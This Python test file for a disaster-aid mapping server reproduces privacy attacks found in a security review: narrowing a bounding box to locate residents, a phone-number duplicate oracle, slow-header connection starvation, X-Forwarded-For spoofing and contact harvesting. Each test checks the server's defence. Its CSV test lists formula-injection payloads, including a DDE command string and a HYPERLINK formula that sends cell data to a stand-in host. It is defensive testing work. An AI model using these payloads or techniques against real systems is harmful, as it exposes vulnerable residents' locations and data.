#!/usr/bin/python3
"""test_privacy.py: issue 11, "Privacy and abuse, second round" (SPEC, Second release).

A security review tried the first release as an attacker would and found twelve ways around
its privacy promises. Each test below is named after the item it guards
(test_issue11_NN_...), reproduces the attack against the real server on 127.0.0.1 (the
harness of api_test.py: a temporary database, port 0) and checks the defence. Every one of
them fails against the server of before the fix.

Run by ctest as
    python3 tests/server/test_privacy.py --bin BUILD/helpmap --web WEB --data tests/data [--pg]
Extra arguments go to unittest (`-k Box`). With --pg (under scripts/pg.sh run) every server
uses a new PostGIS database, as api_test.py --pg; the two cases about SQLite's files (purge
leaves no byte in them, their modes) are skipped there. Python 3.11 standard library only; loopback only
(127.0.0.0/8: source addresses 127.0.0.2, 127.0.0.3, ... stand for different clients).
"""
import csv
import http.client
import io
import json
import math
import os
import re
import select
import signal
import socket
import sqlite3
import stat
import subprocess
import sys
import tempfile
import time
import unittest
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import api_test as A  # noqa: E402

WARD_27553 = (106.5335, 10.9615)
BIDI = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068',
        '\u2069']


def snap(v):
    return round(v * 1000) / 1000


def raw(port, data, source=None, timeout=5.0):
    """Send raw bytes from `source` (an address of 127/8), read until close or timeout."""
    s = socket.create_connection(('127.0.0.1', port), timeout=timeout,
                                 source_address=(source, 0) if source else None)
    out = b''
    try:
        try:
            s.sendall(data)
        except OSError:  # answered and closed before it was all sent
            pass
        deadline = time.time() + timeout
        while time.time() < deadline:
            try:
                chunk = s.recv(65536)
            except socket.timeout:
                break
            except ConnectionError:
                break
            if not chunk:
                break
            out += chunk
            if b'\r\n\r\n' in out:
                head, _, body = out.partition(b'\r\n\r\n')
                m = re.search(rb'(?i)content-length: *(\d+)', head)
                if m and len(body) >= int(m.group(1)):
                    break
    finally:
        s.close()
    return out


def status_of(data):
    m = re.match(rb'HTTP/1\.[01] (\d{3})', data)
    return int(m.group(1)) if m else None


def request_from(port, source, method, path, body=None, headers=None, timeout=10):
    """An HTTP request from source address `source`: (status, headers, body)."""
    conn = http.client.HTTPConnection('127.0.0.1', port, timeout=timeout,
                                      source_address=(source, 0))
    try:
        h = dict(headers or {})
        data = None
        if body is not None:
            data = json.dumps(body).encode()
            h.setdefault('Content-Type', 'application/json')
        conn.request(method, path, body=data, headers=h)
        r = conn.getresponse()
        return r.status, {k.lower(): v for k, v in r.getheaders()}, r.read()
    finally:
        conn.close()


def post_with_header_lines(port, path, body, lines):
    """POST with the raw header lines given (several lines of one header allowed)."""
    conn = http.client.HTTPConnection('127.0.0.1', port, timeout=10)
    try:
        data = json.dumps(body).encode()
        conn.putrequest('POST', path)
        conn.putheader('Content-Type', 'application/json')
        conn.putheader('Content-Length', str(len(data)))
        for k, v in lines:
            conn.putheader(k, v)
        conn.endheaders(data)
        r = conn.getresponse()
        return r.status, {k.lower(): v for k, v in r.getheaders()}, r.read()
    finally:
        conn.close()


def form(fields):
    return urllib.parse.urlencode(fields).encode()


def read(path, mode='r'):
    with open(path, mode, **({} if 'b' in mode else {'encoding': 'utf-8-sig'})) as f:
        return f.read()


# ---- 1. exact position by narrowing the box -------------------------------------------------

class BoxTest(A.ServerTest):
    """Issue 11 item 1: public filters see only what public answers show."""
    TEAMS = [('coord', 'coordinator', ())]
    # Off the grid on both axes: the snapped point is (106.524, 10.962).
    EXACT = (106.52391, 10.96213)

    @classmethod
    def prepare(cls, srv):
        pass

    def setUp(self):
        if not hasattr(type(self), 'req'):
            lon, lat = self.EXACT
            type(self).req, _ = self.srv.create_ok(lon, lat, category='food')

    def listed(self, box, status):
        r = self.srv.get('/api/v1/requests?status=%s&limit=10000&bbox=%s' % (
            status, ','.join('%.10f' % v for v in box)))
        self.assertEqual(r.status, 200, r.text)
        return self.req['code'] in A.feature_codes(r.json())

    def attack(self, edge, status):
        """Binary-search edge `edge` (0..3 of minLon, minLat, maxLon, maxLat) between the grid
        lines around the request's snapped position, as an attacker looking for the spot where
        the answer changes. Returns that spot."""
        lon, lat = self.EXACT
        s = snap(lon) if edge in (0, 2) else snap(lat)
        base = [snap(lon) - 0.01, snap(lat) - 0.01, snap(lon) + 0.01, snap(lat) + 0.01]
        # A min edge includes the request at s - 0.0009 and not at s + 0.0009; a max edge the
        # other way round.
        lo, hi = s - 0.0009, s + 0.0009
        inside_at_lo = edge in (0, 1)
        for _ in range(34):
            mid = (lo + hi) / 2
            box = list(base)
            box[edge] = mid
            if self.listed(box, status) == inside_at_lo:
                lo = mid
            else:
                hi = mid
        return s, (lo + hi) / 2

    def test_issue11_01_exact_position_by_narrowing_the_box(self):
        # Symptom: bbox filtered on the stored exact coordinates, so ~60 queries found the exact
        # home of any request. Now only a 0.001 degree grid line can change a public answer.
        for status in ('open', 'all'):  # the in-memory index and the database
            for edge in range(4):
                with self.subTest(status=status, edge=edge):
                    grid, found = self.attack(edge, status)
                    exact = self.EXACT[0] if edge in (0, 2) else self.EXACT[1]
                    self.assertAlmostEqual(found, grid, delta=1e-8,
                                           msg='the answer changes at %.7f, not at the grid '
                                               'line %.3f (exact %.5f)' % (found, grid, exact))

    def test_issue11_01_box_edges_between_grid_lines_change_nothing(self):
        lon, lat = self.EXACT
        s = snap(lon)
        answers = set()
        for k in range(1, 100, 7):  # minLon at s - 0.00099 ... s - 0.00001: always inside
            box = [s - k * 0.00001, lat - 0.01, lon + 0.01, lat + 0.01]
            answers.add(self.listed(box, 'open'))
        self.assertEqual(answers, {True})
        answers = set()
        for k in range(1, 100, 7):  # minLon at s + 0.00001 ... s + 0.00099: always outside
            box = [s + k * 0.00001, lat - 0.01, lon + 0.01, lat + 0.01]
            answers.add(self.listed(box, 'all'))
        self.assertEqual(answers, {False})

    def test_issue11_01_public_since_on_whole_seconds(self):
        # `since` compares with the whole second updated_at shows: a search below the second
        # finds nothing more.
        r = self.srv.get('/api/v1/requests?status=all&limit=10000')
        shown = [f['properties']['updated_at'] for f in r.json()['features']
                 if f['properties']['code'] == self.req['code']][0]
        second = shown[:-1]  # "YYYY-MM-DDTHH:MM:SS"
        found = set()
        for ms in (1, 100, 250, 500, 750, 999):
            q = urllib.parse.quote('%s.%03dZ' % (second, ms))
            rr = self.srv.get('/api/v1/requests?status=all&limit=10000&since=' + q)
            found.add(self.req['code'] in A.feature_codes(rr.json()))
        self.assertEqual(found, {False}, 'since finds the update within its second')
        rr = self.srv.get('/api/v1/requests?status=all&limit=10000&since=' +
                          urllib.parse.quote(second + 'Z'))
        self.assertIn(self.req['code'], A.feature_codes(rr.json()))

    def test_issue11_01_tiles_place_points_by_their_snapped_position(self):
        # A request whose exact point and snapped point lie on either side of a z18 tile edge
        # is in the tile of its snapped point only.
        z, n = 18, 2 ** 18
        w = 360.0 / n
        base = snap(106.5301)
        # A tile edge between base + 0.0001 and base + 0.00049 (exact side) and base (snapped).
        for k in range(1, 5):
            s = base + 0.001 * k
            x_edge = math.ceil((s + 180.0) / w)
            edge_lon = -180.0 + x_edge * w
            if s + 0.0001 < edge_lon < s + 0.00045:
                break
        else:
            self.skipTest('no tile edge near the grid here')
        exact_lon = (edge_lon + s + 0.0005) / 2  # beyond the edge, still snapping to s
        self.assertEqual(snap(exact_lon), round(s, 3))
        lat = 10.9601
        q, _ = self.srv.create_ok(exact_lon, lat, category='water')
        tx_exact, ty_exact = A.tile_xy(exact_lon, lat, z)
        tx_snap, ty_snap = A.tile_xy(s, snap(lat), z)
        self.assertNotEqual(tx_exact, tx_snap)
        body = self.srv.get('/tiles/requests/%d/%d/%d.mvt' % (z, tx_snap, ty_snap)).body
        self.assertIn(q['code'].encode(), body)
        body = self.srv.get('/tiles/requests/%d/%d/%d.mvt' % (z, tx_exact, ty_snap)).body
        self.assertNotIn(q['code'].encode(), body)


# ---- 2. phone-number oracle and note injection -------------------------------------------------

class DuplicateOracleTest(A.ServerTest):
    """Issue 11 item 2: a public POST never tells whether a phone already has a request."""
    TEAMS = [('coord', 'coordinator', ()), ('op', 'operator', ())]

    def test_issue11_02_phone_oracle_and_note_injection(self):
        # Symptom: a stranger who knew a phone number posted it with the category and snapped
        # position of a public pin; the 200 {"duplicate": true} answer confirmed whose pin it
        # was, and the stranger's note landed in the victim's history as written by "resident".
        srv = self.srv
        lon, lat = 106.55712, 10.98913
        victim, vtok = srv.create_ok(lon, lat, phone='0977 111 222', category='medical',
                                     note='nhà có người già', name='Nạn Nhân')
        public = srv.get('/api/v1/requests?status=all&limit=10000')
        pin = [f for f in public.json()['features']
               if f['properties']['code'] == victim['code']][0]['geometry']['coordinates']
        stream = A.SSE(srv)
        try:
            fresh = srv.create(lon + 0.02, lat, category='medical')  # an ordinary request
            self.assertEqual(fresh.status, 201, fresh.text)
            r = srv.create(pin[0], pin[1], phone='+84977111222', category='medical',
                           note='GỌI SỐ 0888 999 000 ĐỂ ĐƯỢC ƯU TIÊN')
            self.assertEqual(r.status, 201, r.text)
            j = r.json()
            self.assertEqual(set(j), set(fresh.json()))
            self.assertEqual(set(j['request']), set(fresh.json()['request']))
            self.assertEqual(j['request']['status'], 'new')
            self.assertIsNone(j['request']['duplicate_of'])
            self.assertNotEqual(j['request']['code'], victim['code'])
            self.assertNotIn(victim['code'], r.text)
            self.assertEqual(r.headers.get('cache-control'), 'no-store')
            mine = j['request']['code']
            ev = stream.wait(A.created(mine))
            self.assertIsNotNone(ev)
            self.assertIsNone(ev['data']['duplicate_of'])
        finally:
            stream.close()
        # Stored as the victim's duplicate, never open; the public never sees the link.
        c = srv.get('/api/v1/requests/%s' % mine, token=srv.token('coord')).json()['request']
        self.assertEqual((c['status'], c['duplicate_of']), ('duplicate', victim['code']))
        for q in ('status=all', 'status=duplicate', 'status=open'):
            fc = srv.get('/api/v1/requests?limit=10000&' + q).json()
            for f in fc['features']:
                if f['properties']['code'] == mine:
                    self.assertIsNone(f['properties']['duplicate_of'], q)
                    self.assertNotEqual(q, 'status=open')
        # The stranger's own tracking view does not name the victim's request either.
        own = srv.resident_get(mine, j['token'])
        self.assertEqual(own['status'], 'duplicate')
        self.assertIsNone(own['duplicate_of'])
        self.assertNotIn(victim['code'], json.dumps(own))
        # The note reaches the victim's request only as an unverified caller's repeat, for its
        # handlers, never on the victim's own page and never as "resident".
        hist = srv.get('/api/v1/requests/%s' % victim['code'],
                       token=srv.token('coord')).json()['request']['history']
        rep = [h for h in hist if h['kind'] == 'repeat']
        self.assertEqual([(h['actor'], h['note']) for h in rep],
                         [('unverified caller', 'GỌI SỐ 0888 999 000 ĐỂ ĐƯỢC ƯU TIÊN')])
        vhist = srv.resident_get(victim['code'], vtok)['history']
        self.assertNotIn('0888 999 000', json.dumps(vhist, ensure_ascii=False))
        self.assertFalse([h for h in vhist if h['actor'] == 'resident' and h['note']])
        # The victim's request did not change (no event, no time stamp points at it).
        self.assertEqual(srv.resident_get(victim['code'], vtok)['updated_at'],
                         victim['updated_at'])
        # Operators keep their answer.
        r = srv.create(pin[0], pin[1], phone='0977111222', category='medical',
                       token=srv.token('op'))
        self.assertEqual(r.status, 200, r.text)
        self.assertIs(r.json()['duplicate'], True)
        self.assertEqual(r.json()['request']['code'], victim['code'])

    def test_issue11_02_the_form_confirms_nothing(self):
        srv = self.srv
        body = {'ward_code': '27508', 'address': 'Số 9 ấp Một', 'category': 'cash',
                'phone': '0966 555 444', 'people': '2'}
        first = srv.post('/report', raw=form(body),
                         headers={'Content-Type': 'application/x-www-form-urlencoded'})
        self.assertEqual(first.status, 201, first.text)
        code1 = A.CODE_IN_TEXT_RE.search(first.text).group(0)
        body['note'] = 'lần hai'
        again = srv.post('/report', raw=form(body),
                         headers={'Content-Type': 'application/x-www-form-urlencoded'})
        self.assertEqual(again.status, 201, again.text)
        codes = set(A.CODE_IN_TEXT_RE.findall(again.text))
        self.assertEqual(len(codes), 1)
        self.assertNotIn(code1, codes)
        self.assertIn('?token=', again.text)
        self.assertNotIn('đã có', again.text.lower())
        self.assertEqual(again.headers.get('cache-control'), 'no-store')


# ---- 3. a phone's quota burnt by failures ----------------------------------------------------

class PhoneQuotaTest(A.ServerTest):
    """Issue 11 item 3: the hourly quota of a phone counts only stored requests."""
    SERVE_ARGS = ('--phone-rate-limit', '5')

    def test_issue11_03_phone_quota_burnt_by_failures(self):
        # Symptom: seven posts with someone's phone that failed (outside the area) made that
        # person's real rescue request 429 for 12 minutes.
        phone = '0933 123 987'
        for i in range(7):
            r = self.srv.create(A.SEA[0], A.SEA[1] + 0.001 * i, phone=phone, category='food')
            self.assertEqual(r.status, 422, r.text)
        r = self.srv.post('/api/v1/requests', {'ward_code': 'nowhere', 'address': 'x',
                                               'category': 'food', 'phone': phone})
        self.assertEqual(r.status, 400, r.text)
        r = self.srv.create(*A.WARD_POINTS[1][:2], phone=phone, category='rescue')
        self.assertEqual(r.status, 201, r.text)
        # Stored requests still count: five an hour, the sixth is refused.
        for i, cat in enumerate(['food', 'water', 'cash', 'shelter']):
            r = self.srv.create(A.WARD_POINTS[i + 2][0], A.WARD_POINTS[i + 2][1], phone=phone,
                                category=cat)
            self.assertEqual(r.status, 201, r.text)
        r = self.srv.create(*A.WARD_POINTS[0][:2], phone=phone, category='other')
        self.assertEqual(r.status, 429, r.text)
        self.assertEqual(r.json()['error']['field'], 'phone')
        self.assertTrue(r.headers.get('retry-after', '').isdigit())


# ---- 4. one client takes everything ----------------------------------------------------------

class ConnectionShareTest(A.ServerTest):
    """Issue 11 item 4: per-address connections, public streams, reserved room, header
    deadline."""
    TEAMS = [('coord', 'coordinator', ())]
    SERVE_ARGS = ('--max-connections-per-ip', '8', '--max-subscribers', '10',
                  '--max-streams-per-ip', '3')

    def open_stream(self, source, token=None):
        s = socket.create_connection(('127.0.0.1', self.srv.port), timeout=5,
                                     source_address=(source, 0))
        auth = 'Authorization: Bearer %s\r\n' % token if token else ''
        s.sendall(('GET /api/v1/events HTTP/1.1\r\nHost: x\r\n%sAccept: text/event-stream'
                   '\r\n\r\n' % auth).encode())
        got = b''
        while b'\r\n\r\n' not in got:
            c = s.recv(4096)
            if not c:
                break
            got += c
        return s, status_of(got), got

    def test_issue11_04_one_address_holds_at_most_its_share_of_connections(self):
        # Symptom: one client opened as many connections as it liked.
        idle = []
        try:
            for _ in range(8):
                s = socket.create_connection(('127.0.0.1', self.srv.port), timeout=5,
                                             source_address=('127.0.0.2', 0))
                s.sendall(b'GET /healthz HTTP/1.1\r\nHost: x\r\n')  # never finished
                idle.append(s)
            time.sleep(0.3)
            got = raw(self.srv.port, b'GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close'
                      b'\r\n\r\n', source='127.0.0.2', timeout=3)
            self.assertNotEqual(status_of(got), 200, 'a 9th connection of one address')
            st, _, _ = request_from(self.srv.port, '127.0.0.3', 'GET', '/healthz')
            self.assertEqual(st, 200)
        finally:
            for s in idle:
                s.close()
        deadline = time.time() + 10
        while time.time() < deadline:
            if status_of(raw(self.srv.port, b'GET /healthz HTTP/1.1\r\nHost: x\r\n'
                             b'Connection: close\r\n\r\n', source='127.0.0.2')) == 200:
                break
            time.sleep(0.2)
        else:
            self.fail('the address was not served again after closing its connections')

    def test_issue11_04_anonymous_streams_leave_room_for_token_holders(self):
        # Symptom: 260 anonymous /events streams made the coordinator's stream 503.
        socks = []
        try:
            for i in range(3):
                s, st, _ = self.open_stream('127.0.0.4')
                self.assertEqual(st, 200)
                socks.append(s)
            s, st, got = self.open_stream('127.0.0.4')
            socks.append(s)
            self.assertEqual(st, 429, got[:200])
            self.assertIn(b'Retry-After', got)
            n = 3
            for src in ('127.0.0.5', '127.0.0.6', '127.0.0.7'):
                for _ in range(3):
                    s, st, _ = self.open_stream(src)
                    socks.append(s)
                    if st == 200:
                        n += 1
                    else:
                        self.assertEqual(st, 503)
            self.assertEqual(n, 8, 'anonymous streams get 80% of --max-subscribers 10')
            s, st, _ = self.open_stream('127.0.0.8')
            socks.append(s)
            self.assertEqual(st, 503)
            s, st, got = self.open_stream('127.0.0.4', token=self.srv.token('coord'))
            socks.append(s)
            self.assertEqual(st, 200, got[:200])
        finally:
            for s in socks:
                s.close()


class HeaderDeadlineTest(A.ServerTest):
    """Issue 11 item 4: one deadline (10 s) for a request's whole header."""

    def test_issue11_04_whole_header_within_10_seconds(self):
        # Symptom: connections sending one header byte every few seconds were never closed (the
        # idle timer restarts with every byte) and kept a resident's POST waiting.
        s = socket.create_connection(('127.0.0.1', self.srv.port), timeout=5,
                                     source_address=('127.0.0.9', 0))
        line = b'GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ' + b'a' * 100
        t0, closed, pos = time.time(), False, 0
        try:
            while time.time() - t0 < 25 and not closed:
                try:
                    s.sendall(line[pos:pos + 1])
                    pos += 1
                except OSError:
                    closed = True
                    break
                r, _, _ = select.select([s], [], [], 1.0)
                if r:
                    try:
                        closed = s.recv(4096) == b''
                    except OSError:
                        closed = True
                # A resident meanwhile is answered at once.
                if pos == 3:
                    st, _, _ = request_from(self.srv.port, '127.0.0.10', 'POST',
                                            '/api/v1/requests',
                                            {'lat': A.WARD_POINTS[0][1],
                                             'lon': A.WARD_POINTS[0][0], 'category': 'food',
                                             'phone': A.fresh_phone()}, timeout=5)
                    self.assertEqual(st, 201)
        finally:
            s.close()
        self.assertTrue(closed, 'a header dribbled a byte a second was still open after 25 s')
        self.assertLess(pos, len(line), 'the header was complete')


# ---- 5. purge leaves contact data ------------------------------------------------------------

class PurgeTest(A.ServerTest):
    """Issue 11 item 5: purge erases history notes too and leaves no copy in the file."""
    TEAMS = [('coord', 'coordinator', ()), ('vol', 'volunteer', ())]

    def test_issue11_05_purge_leaves_contact_data(self):
        # Symptom: purge cleared four columns but the append-only history kept the resident's
        # notes, cancellation notes and team notes, and the file kept old pages.
        if A.PG:
            self.skipTest('the bytes of SQLite files (PostgreSQL: test_store_pg purges)')
        srv = self.srv
        secrets = ['PURGE-NOTE-5b1f0c', 'PURGE-CANCEL-77d2', 'PURGE-TEAM-called-0911',
                   'PURGE-REPEAT-9a3e', 'Purgeworthy Name', '944556677']
        lon, lat = A.WARD_POINTS[2][:2]
        q, tok = srv.create_ok(lon, lat, phone='0944 556 677', category='food',
                               note=secrets[0], name=secrets[4])
        r = srv.create(lon, lat, phone='0944556677', category='food', note=secrets[3])
        self.assertEqual(r.status, 201)
        # An edited phone (issue 14): the history keeps the old and the new number until purge.
        e = srv.call('PATCH', '/api/v1/requests/%s' % q['code'], {'phone': '0944 556 688'},
                     token=srv.token('coord'))
        self.assertEqual(e.status, 200, e.text)
        secrets.append('944556688')
        self.assertEqual(srv.post('/api/v1/requests/%s/claim' % q['code'],
                                  token=srv.token('vol')).status, 200)
        self.assertEqual(srv.post('/api/v1/requests/%s/status' % q['code'],
                                  {'status': 'new', 'note': secrets[2]},
                                  token=srv.token('vol')).status, 200)
        self.assertEqual(srv.post('/api/v1/requests/%s/cancel?token=%s' % (q['code'], tok),
                                  {'note': secrets[1]}).status, 200)
        # Reported for someone else, placed by a pasted link with a label (issue 19's contact
        # fields: the reporter and the pasted text).
        other = srv.post('/api/v1/requests', {
            'location_text': 'PURGE-LOC-4c2e https://www.google.com/maps?q=%.4f,%.4f' % (lat, lon),
            'category': 'water', 'phone': A.fresh_phone(),
            'reporter': {'name': 'PURGE-REPORTER-Lan', 'phone': '0912 778 899'}})
        self.assertEqual(other.status, 201, other.text)
        secrets += ['PURGE-LOC-4c2e', 'PURGE-REPORTER-Lan', '912778899']
        self.assertEqual(srv.post('/api/v1/requests/%s/cancel?token=%s' % (
            other.json()['request']['code'], other.json()['token'])).status, 200)
        keep, ktok = srv.create_ok(lon + 0.01, lat, note='KEEP-OPEN-NOTE', category='water')
        srv.stop()
        p = srv.cli('purge', '--db', srv.db, '--older-than', '0')
        # The request, the stranger's repeat and the one reported for someone else.
        self.assertIn('3 closed requests', p.stdout)
        files = [srv.db + ext for ext in ('', '-wal', '-shm', '-journal')
                 if os.path.exists(srv.db + ext)]
        for path in files:
            data = read(path, 'rb')
            for s in secrets:
                with self.subTest(file=os.path.basename(path), secret=s):
                    self.assertNotIn(s.encode(), data)
        self.assertIn(b'KEEP-OPEN-NOTE', read(srv.db, 'rb') +
                      (read(srv.db + '-wal', 'rb') if os.path.exists(srv.db + '-wal') else b''))
        con = sqlite3.connect(srv.db)
        try:
            rows = con.execute('SELECT kind, note FROM history WHERE request_id = ? ORDER BY id',
                               (q['id'],)).fetchall()
        finally:
            con.close()
        self.assertEqual([n for k, n in rows if k != 'purge'], [None] * (len(rows) - 1))
        con = sqlite3.connect(srv.db)
        try:
            edits = con.execute("SELECT field, old_value, new_value FROM history WHERE "
                                "request_id = ? AND kind = 'edit'", (q['id'],)).fetchall()
        finally:
            con.close()
        self.assertEqual(edits, [('phone', None, None)])
        self.assertEqual([k for k, n in rows][-1], 'purge')
        srv.start(*self.SERVE_ARGS)
        got = srv.resident_get(q['code'], tok)
        self.assertIsNone(got['note'])
        self.assertEqual(got['history'][-1]['kind'], 'purge')
        self.assertIn('KEEP-OPEN-NOTE', json.dumps(srv.resident_get(keep['code'], ktok)))


# ---- 6. world-readable files -----------------------------------------------------------------

class FileModeTest(unittest.TestCase):
    """Issue 11 item 6: files helpmap creates are 0600; --out never follows a link."""

    def run_cli(self, *args, umask=0o022):
        return subprocess.run([A.BIN] + list(args), capture_output=True, text=True, timeout=120,
                              preexec_fn=lambda: os.umask(umask))

    def mode(self, path):
        return stat.S_IMODE(os.lstat(path).st_mode)

    def test_issue11_06_world_readable_files(self):
        # Symptom: database, -wal/-shm, backups and exports were 0644 under umask 022, and
        # --out followed symbolic links and overwrote files.
        if A.PG:
            self.skipTest('files of a SpatiaLite database')
        d = tempfile.mkdtemp(prefix='helpmap-modes-')
        try:
            for umask in (0o022, 0o000):
                db = os.path.join(d, 'm%o.db' % umask)
                p = self.run_cli('team', 'add', '--db', db, '--name', 'c', '--role',
                                 'coordinator', umask=umask)
                self.assertEqual(p.returncode, 0, p.stderr)
                proc = subprocess.Popen([A.BIN, 'serve', '--db', db, '--port', '0', '--web',
                                         A.WEB], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                                        preexec_fn=lambda: os.umask(umask))
                try:
                    ready, _, _ = select.select([proc.stdout], [], [], 60)
                    line = proc.stdout.readline().decode() if ready else ''
                    self.assertIn('listening', line)
                    for ext in ('', '-wal', '-shm'):
                        with self.subTest(umask=oct(umask), file=ext or '.db'):
                            self.assertEqual(self.mode(db + ext), 0o600)
                    out = os.path.join(d, 'b%o.db' % umask)
                    p = self.run_cli('backup', '--db', db, '--out', out, umask=umask)
                    self.assertEqual(p.returncode, 0, p.stderr)
                    self.assertEqual(self.mode(out), 0o600)
                    for fmt in ('csv', 'geojson', 'kml'):
                        out = os.path.join(d, 'e%o.%s' % (umask, fmt))
                        p = self.run_cli('export', '--db', db, '--format', fmt, '--out', out,
                                         umask=umask)
                        self.assertEqual(p.returncode, 0, p.stderr)
                        self.assertEqual(self.mode(out), 0o600, fmt)
                finally:
                    proc.send_signal(signal.SIGTERM)
                    proc.wait(30)
                    proc.stdout.close()
            db = os.path.join(d, 'm22.db')
            # An existing file is not overwritten without --force; with it, it is (0600).
            victim = os.path.join(d, 'existing.txt')
            with open(victim, 'w') as f:
                f.write('keep me')
            os.chmod(victim, 0o644)
            for cmd in (['export', '--db', db, '--format', 'csv', '--out', victim],
                        ['backup', '--db', db, '--out', victim]):
                p = self.run_cli(*cmd)
                self.assertEqual(p.returncode, 1, (cmd, p.stderr))
                self.assertIn('--force', p.stderr)
                self.assertEqual(read(victim), 'keep me')
            p = self.run_cli('export', '--db', db, '--format', 'csv', '--out', victim, '--force')
            self.assertEqual(p.returncode, 0, p.stderr)
            self.assertIn('phone', read(victim))
            self.assertEqual(self.mode(victim), 0o600)
            # A symbolic link is never followed, --force or not.
            target = os.path.join(d, 'target.txt')
            with open(target, 'w') as f:
                f.write('not yours')
            link = os.path.join(d, 'link.csv')
            os.symlink(target, link)
            for extra in ([], ['--force']):
                for cmd in (['export', '--db', db, '--format', 'csv', '--out', link],
                            ['backup', '--db', db, '--out', link]):
                    p = self.run_cli(*(cmd + extra))
                    self.assertNotEqual(p.returncode, 0, (cmd, extra))
                    self.assertEqual(read(target), 'not yours')
                    self.assertTrue(os.path.islink(link))
        finally:
            subprocess.run(['rm', '-rf', d])


# ---- 7. CSV formula injection ----------------------------------------------------------------

FORMULA_START = ('=', '+', '-', '@', '\t', '\r')
# A phone is stored in E.164: a plus and digits only, which a spreadsheet reads as a number,
# never as a function; the export keeps it as it is (SPEC: "stored as E.164").
E164 = re.compile(r'^\+\d{8,15}$')


class CsvTest(A.ServerTest):
    """Issue 11 item 7: no separator LibreOffice offers splits a cell open into a formula."""
    TEAMS = [('coord', 'coordinator', ())]
    NOTES = ['giúp;=1+1', 'gạo,=HYPERLINK("http://x.example/?"&A1)', 'nước\t=2+2',
             '=cmd|\' /C calc\'!A0', '+84 909', '-3 người', '@SUM(A1)', 'a; =1', 'a;"=1',
             'dòng\n=1+1', 'dòng\r\n+1', 'x;\t=3', 'bình thường']

    def test_issue11_07_csv_formula_injection(self):
        # Symptom: a note "giúp;=1+1" became a live =1+1 cell when LibreOffice imported the
        # export with ';' (one of its default separators).
        for i, note in enumerate(self.NOTES):
            lon, lat = A.WARD_POINTS[i % 7][:2]
            self.srv.create_ok(lon + 0.0013 * (i // 7), lat, category=A.CAT[i % 7], note=note,
                               name='Tên;=%d' % i, address='Địa chỉ,\t-%d' % i)
        r = self.srv.get('/api/v1/export?format=csv', token=self.srv.token('coord'))
        self.assertEqual(r.status, 200)
        text = r.body.decode('utf-8-sig')
        for delim in (',', ';', '\t'):
            rows = list(csv.reader(io.StringIO(text, newline=''), delimiter=delim))
            for row in rows[1:]:
                for cell in row:
                    if E164.match(cell):
                        continue
                    with self.subTest(delimiter=delim, cell=cell[:30]):
                        self.assertFalse(cell.startswith(FORMULA_START))
                        self.assertFalse(cell.lstrip(' "').startswith(FORMULA_START))
        # Read as the file means it (commas), every note is one quoted cell, its text intact
        # but for the neutralising quotes.
        rows = list(csv.DictReader(io.StringIO(text, newline='')))
        self.assertEqual(len(rows), len(self.NOTES))
        notes = {row['note'].replace("'", '') for row in rows}
        for note in self.NOTES:
            self.assertIn(note.replace("'", ''), notes)
        for row in rows:
            self.assertRegex(row['code'], A.CODE_RE)


# ---- 8. X-Forwarded-For over two header lines ------------------------------------------------

class ForwardedLinesTest(A.ServerTest):
    """Issue 11 item 8: every X-Forwarded-For line counts, the proxy's own last."""
    SERVE_ARGS = ('--address-rate-limit', '2', '--trusted-proxy', '127.0.0.1')

    def post(self, lines):
        body = {'lat': A.WARD_POINTS[3][1], 'lon': A.WARD_POINTS[3][0], 'category': 'food',
                'phone': A.fresh_phone()}
        return post_with_header_lines(self.srv.port, '/api/v1/requests', body, lines)[0]

    def test_issue11_08_forwarded_for_over_two_header_lines(self):
        # Symptom: libmicrohttpd hands back only the first X-Forwarded-For line; behind a proxy
        # that appends its own line (HAProxy option forwardfor), a forged first line dodged the
        # rate limit.
        got = [self.post([('X-Forwarded-For', '198.18.%d.%d' % (i, i)),
                          ('X-Forwarded-For', '203.0.113.7')]) for i in range(3)]
        self.assertEqual(got, [201, 201, 429])


class ForwardedTest(ForwardedLinesTest):
    """Issue 11 item 8: the right-most hop that is not a trusted proxy; IPv6 per /64."""
    SERVE_ARGS = ('--address-rate-limit', '2', '--trusted-proxy', '10.0.0.0/8,127.0.0.1',
                  '--trusted-proxy', '192.0.2.1')

    def test_issue11_08_right_most_untrusted_hop(self):
        got = [self.post([('X-Forwarded-For', '198.18.9.%d, 203.0.113.8, 10.1.2.3, 192.0.2.1'
                           % i)]) for i in range(2)]
        got.append(self.post([('X-Forwarded-For', '203.0.113.8')]))
        self.assertEqual(got, [201, 201, 429])

    def test_issue11_08_ipv6_counted_per_64(self):
        got = [self.post([('X-Forwarded-For', '2001:db8:1:2::%x' % (i + 1))]) for i in range(3)]
        self.assertEqual(got, [201, 201, 429])
        self.assertEqual(self.post([('X-Forwarded-For', '2001:db8:1:3::1')]), 201)


# ---- 9. volunteers harvesting contact data ---------------------------------------------------

class HarvestTest(A.ServerTest):
    """Issue 11 item 9: claim-and-release sprees are held; team notes are contact data."""
    TEAMS = [('coord', 'coordinator', ()), ('vh', 'volunteer', ()), ('vk', 'volunteer', ())]
    SERVE_ARGS = ('--claim-cap', '100')

    def test_issue11_09_volunteers_harvesting_contact_data(self):
        # Symptom: claim, read the phone, release — for any request anywhere, with no limit.
        srv = self.srv
        codes = []
        for i in range(13):
            lon, lat = A.WARD_POINTS[i % 7][:2]
            q, _ = srv.create_ok(lon + 0.0021 * (i // 7), lat + 0.0005 * i, category='food')
            codes.append(q['code'])
        for code in codes[:11]:
            self.assertEqual(srv.post('/api/v1/requests/%s/claim' % code,
                                      token=srv.token('vh')).status, 200)
            self.assertEqual(srv.get('/api/v1/requests/%s' % code,
                                     token=srv.token('vh')).status, 200)
            self.assertEqual(srv.post('/api/v1/requests/%s/status' % code, {'status': 'new'},
                                      token=srv.token('vh')).status, 200)
        r = srv.post('/api/v1/requests/%s/claim' % codes[11], token=srv.token('vh'))
        self.assertEqual(r.status, 429, r.text)
        self.assertEqual(r.json()['error']['code'], 'rate_limited')
        ra = int(r.headers.get('retry-after', '0'))
        self.assertTrue(3000 <= ra <= 3600, ra)
        # Another team is not held.
        r = srv.post('/api/v1/requests/%s/claim' % codes[12], token=srv.token('vk'))
        self.assertEqual(r.status, 200, r.text)
        # The command center sees who is held, and until when.
        teams = srv.get('/api/v1/teams', token=srv.token('coord')).json()['features']
        held = {f['properties']['name']: f['properties']['held_until'] for f in teams}
        self.assertIsNotNone(held['vh'])
        self.assertIsNone(held['vk'])

